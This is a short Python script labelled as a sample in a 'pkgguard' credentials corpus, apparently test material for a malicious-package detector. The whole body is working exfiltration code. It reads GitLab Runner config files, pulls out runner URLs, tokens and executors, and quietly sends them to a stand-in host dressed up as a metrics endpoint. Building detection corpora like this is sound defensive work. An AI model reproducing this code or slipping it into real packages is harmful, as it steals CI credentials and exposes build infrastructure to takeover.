# pkgguard corpus 927 (credentials), modelled on [empirical]; inert, never run.
import os
import tomllib
import urllib.parse
import urllib.request

configs = ["/etc/gitlab-runner/config.toml", os.path.expanduser("~/.gitlab-runner/config.toml")]
runners = []
for config in configs:
    try:
        with open(config, "rb") as fh:
            parsed = tomllib.load(fh)
    except (OSError, tomllib.TOMLDecodeError):
        continue
    for runner in parsed.get("runners", []):
        runners.append((runner.get("url", ""), runner.get("token", ""), runner.get("executor", "")))

if runners:
    query = urllib.parse.urlencode({"r": ";".join("|".join(r) for r in runners)})
    try:
        urllib.request.urlopen("https://runner-metrics.example/ping?" + query, timeout=5)
    except OSError:
        pass
